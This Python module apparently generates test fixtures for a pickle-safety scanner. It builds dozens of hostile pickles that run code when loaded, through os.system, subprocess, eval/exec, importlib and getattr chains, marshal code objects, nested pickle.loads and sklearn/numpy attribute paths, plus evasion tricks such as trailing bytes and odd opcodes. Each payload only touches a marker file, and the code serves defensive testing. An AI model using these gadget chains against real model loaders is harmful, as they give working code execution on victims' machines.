"""Pickles that run something when they are loaded, or try to. Each would do no more than touch a marker file."""

import marshal
import pickle
import types

from assembler import (
    APPEND,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    STOP,
    call,
    get,
    name,
    number,
    old_name,
    program,
    put,
    raw,
    text,
)


class Reduced:
    """Pickles to a call of *function* with *arguments*."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def direct(marker):
    """One call of one function, by every road to it."""
    shell = f"touch {marker}"
    code = f"open({str(marker)!r}, 'w').close()"
    touch = text(shell)
    yield "os.system, protocol 0", b"cos\nsystem\n(V" + shell.encode() + b"\ntR."
    yield "os.system, protocol 2", program(call(old_name("posix", "system"), touch), protocol=2)
    yield "os.system, protocol 4", program(call(name("os", "system"), touch))
    yield "os.system, protocol 5", program(call(name("posix", "system"), touch), protocol=5)
    yield "os.popen", program(call(name("os", "popen"), touch))
    yield "old name of os.system", program(call(old_name("commands", "getoutput"), touch), protocol=2)
    arguments = MARK + text("touch") + text(str(marker)) + b"l"
    for function in ("Popen", "check_output", "run", "call"):
        yield f"subprocess.{function}", program(call(name("subprocess", function), arguments))
    yield (
        "multiprocessing spawn",
        program(call(name("multiprocessing.util", "spawnv_passfds"), raw(b"/bin/touch"), arguments, b")")),
    )
    yield "pty.spawn", program(call(name("pty", "spawn"), arguments))
    runners = (
        *(
            ("builtins", "eval"),
            ("builtins", "exec"),
            ("cProfile", "run"),
            ("profile", "run"),
        ),
        *(("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "myeval")),
        *(("runpy", "_run_code"), ("code", "compile_command")),
    )
    for module, function in runners:
        body = f"__import__('os').system({shell!r})" if function in ("eval", "myeval") else code
        yield f"{module}.{function}", program(call(name(module, function), text(body), EMPTY_DICT))
    yield (
        "timeit",
        program(call(name("timeit", "timeit"), text(code), text("pass"), name("time", "time"), number(1))),
    )
    yield "builtins of Python 2", program(call(old_name("__builtin__", "eval"), text(code)), protocol=2)
    yield "os.mkdir", program(call(name("os", "mkdir"), text(str(marker))))
    yield "open for writing", program(call(name("builtins", "open"), text(str(marker)), text("w")))
    yield "io.open for writing", program(call(name("io", "open"), text(str(marker)), text("w")))
    yield (
        "pathlib touch",
        program(call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(str(marker))))),
    )
    yield "shelve", program(call(name("shelve", "open"), text(str(marker))))
    yield "sqlite3", program(call(name("sqlite3", "connect"), text(str(marker))))
    yield (
        "test support",
        program(call(name("test.support.script_helper", "assert_python_ok"), text("-c"), text(code))),
    )


def indirect(marker):
    """Calls of what another call returned, and names within names."""
    touch = text(f"touch {marker}")
    module = call(name("builtins", "__import__"), text("os"))
    yield (
        "getattr of an import",
        program(call(call(name("builtins", "getattr"), module, text("system")), touch)),
    )
    yield (
        "importlib",
        program(
            call(
                call(
                    name("builtins", "getattr"),
                    call(name("importlib", "import_module"), text("os")),
                    text("system"),
                ),
                touch,
            )
        ),
    )
    yield (
        "pkgutil.resolve_name",
        program(call(call(name("pkgutil", "resolve_name"), text("os:system")), touch)),
    )
    yield "pydoc.locate", program(call(call(name("pydoc", "locate"), text("os.system")), touch))
    yield (
        "logging resolver",
        program(call(call(name("logging.config", "_resolve"), text("os.system")), touch)),
    )
    yield (
        "operator.methodcaller",
        program(call(call(name("operator", "methodcaller"), text("system"), touch), module)),
    )
    yield (
        "operator.attrgetter",
        program(call(call(call(name("operator", "attrgetter"), text("system")), module), touch)),
    )
    yield "functools.partial", program(call(call(name("functools", "partial"), name("os", "system"), touch)))
    yield (
        "map and list",
        program(
            call(
                name("builtins", "list"),
                call(name("builtins", "map"), name("os", "system"), EMPTY_LIST + touch + APPEND),
            )
        ),
    )
    yield (
        "functools.reduce",
        program(call(name("functools", "reduce"), name("operator", "add"), EMPTY_LIST + touch + APPEND)),
    )
    for host in ("sklearn.base", "sklearn.pipeline", "joblib.numpy_pickle", "numpy"):
        road = {"sklearn.base": "inspect.os.system", "sklearn.pipeline": "warnings.sys.modules"}.get(
            host, "os.system"
        )
        yield f"dotted name through {host}", program(call(name(host, road), touch))
    yield (
        "module as an attribute",
        program(call(name("builtins", "getattr"), name("joblib.numpy_pickle", "os"), text("system"))),
    )
    yield (
        "getattr on a listed class",
        program(
            call(
                call(
                    name("builtins", "getattr"), name("sklearn.base", "BaseEstimator"), text("__subclasses__")
                )
            )
        ),
    )
    yield (
        "a listed scorer called on a function",
        program(call(call(name("sklearn.utils.parallel", "_FuncWrapper"), name("os", "system")), touch)),
    )
    yield "a new class", program(call(name("builtins", "type"), text("X"), b")", EMPTY_DICT))
    yield (
        "code by value",
        program(
            call(
                call(
                    name("types", "FunctionType"),
                    call(name("marshal", "loads"), raw(_code(marker))),
                    EMPTY_DICT,
                )
            )
        ),
    )
    yield "two names for one function", program(name("os", "system"), put(7), POP, call(get(7), touch))
    yield "a result that is thrown away", program(call(name("os", "system"), touch), POP, NONE)
    yield "a module of the user", program(call(name("evil_module", "Evil")))
    yield "inside a pipeline", pickle.dumps(_pipeline(Reduced(__import__("os").system, f"touch {marker}")))


def _code(marker):
    source = f"open({str(marker)!r}, 'w').close()"
    function = types.FunctionType(compile(source, "x", "exec"), {})
    return marshal.dumps(function.__code__)


def _pipeline(step):
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    return Pipeline([("f", FunctionTransformer(func=step))])


def machine(marker):
    """Rarely used instructions, and what stands around the pickle."""
    shell = f"touch {marker}".encode()
    fire = program(call(name("os", "system"), text(shell.decode())))
    benign = pickle.dumps([1, 2])
    listed = name("sklearn.base", "BaseEstimator")
    yield "INST", b"(S'" + shell + b"'\nios\nsystem\n."
    yield "OBJ", program(MARK + name("os", "system") + text(shell.decode()) + b"o")
    yield "truncated after the call", fire[:-1]
    yield "a second pickle behind the first", benign + fire
    yield "bytes behind the end", benign + b"\n# nothing to see here"
    yield "a persistent id", b"Pmarker\n."
    yield "a binary persistent id", program(text(str(marker)) + b"Q")
    yield "extension 1", program(b"\x82\x01")
    yield "extension 2", program(b"\x83\x01\x00")
    yield "extension 4", program(b"\x84\x01\x00\x00\x00")
    state = EMPTY_DICT + text("predict") + name("builtins", "list") + SETITEM
    yield "BUILD on a class", program(listed, NONE, state, b"\x86", BUILD)
    yield "BUILD on a function", program(name("numpy", "log1p"), NONE, state, b"\x86", BUILD)
    yield "SETITEM on a class", program(listed, text("x"), number(1), SETITEM)
    yield "APPEND on a class", program(listed, text("x"), APPEND)
    yield "ADDITEMS on a class", program(listed, MARK, text("x"), b"\x90")
    yield (
        "a call of an instance",
        program(call(name("sklearn.base", "BaseEstimator")), put(1), call(DUP, text("x"))),
    )
    yield "REDUCE of text", program(text("os.system"), b")", REDUCE)
    yield "a name of many lines", b"cos\x1b[2J\x07\nsys\x9btem\n" + STOP
    yield "nested pickle.loads", program(call(name("pickle", "loads"), raw(fire)))
    yield "nested _pickle.loads", program(call(name("_pickle", "loads"), raw(fire)))
    yield "nested pickle._loads", program(call(name("pickle", "_loads"), raw(fire)))
    yield "a hundred thousand names", program(*(name(f"evil{i}", "x") + POP for i in range(100_000)), NONE)


def all_of(marker):
    """Yield (name, content) of every hostile pickle."""
    for group in (direct, indirect, machine):
        yield from group(marker)
